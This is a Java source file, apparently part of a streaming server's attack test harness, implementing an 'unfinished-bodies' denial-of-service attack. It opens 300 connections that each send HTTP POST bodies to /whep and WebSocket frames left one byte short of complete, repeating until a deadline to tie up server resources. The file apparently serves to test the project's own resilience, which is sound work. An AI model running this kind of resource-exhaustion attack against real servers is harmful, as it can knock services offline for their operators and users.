package io.github.natcast.streamer.attack;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;

/** Three hundred bodies and as many WebSocket messages, each complete but for its last byte. */
final class Unfinished implements Attack {
    private static final int EACH = 300;
    private static final int BODY = 2 << 20;
    private static final byte[] TEXT = Pouring.many(new byte[] {'a'}, 64 << 10);

    /** A text frame of so many bytes, for one write after the other. */
    private static byte[] begun(int length) {
        byte[] begin = WebSocketText.beginOfText(length);
        byte[] frame = Arrays.copyOf(begin, begin.length + length);
        Arrays.fill(frame, begin.length, frame.length, (byte) 'a');
        return frame;
    }

    @Override
    public String name() {
        return "unfinished-bodies";
    }

    @Override
    public Bounds bounds() {
        return Bounds.WATCHERS.withResident(100);
    }

    @Override
    public void run(Victim.Target target, Deadline deadline, Tally tally) throws IOException, InterruptedException {
        byte[] body = Http.head(
                        "POST",
                        "/whep",
                        target.http(),
                        "Content-Type: application/sdp\r\nContent-Length: " + BODY + "\r\n")
                .getBytes(StandardCharsets.US_ASCII);
        byte[] frame = begun(BODY);
        byte[] socket = WebSocketText.handshake(target.http());
        List<Pouring> all = new ArrayList<>();
        for (int i = 0; i < EACH; i++) {
            all.add(new Pouring(target.addresses().attacker(i), target.http(), tally, body, TEXT, BODY - 1));
            all.add(new Pouring(target.addresses().attacker(i), target.http(), tally, socket, frame, BODY + 13));
        }
        while (!deadline.isOver()) {
            for (Pouring each : all) {
                each.pour();
            }
            deadline.sleep(5);
        }
        for (Pouring each : all) {
            each.close();
        }
    }
}
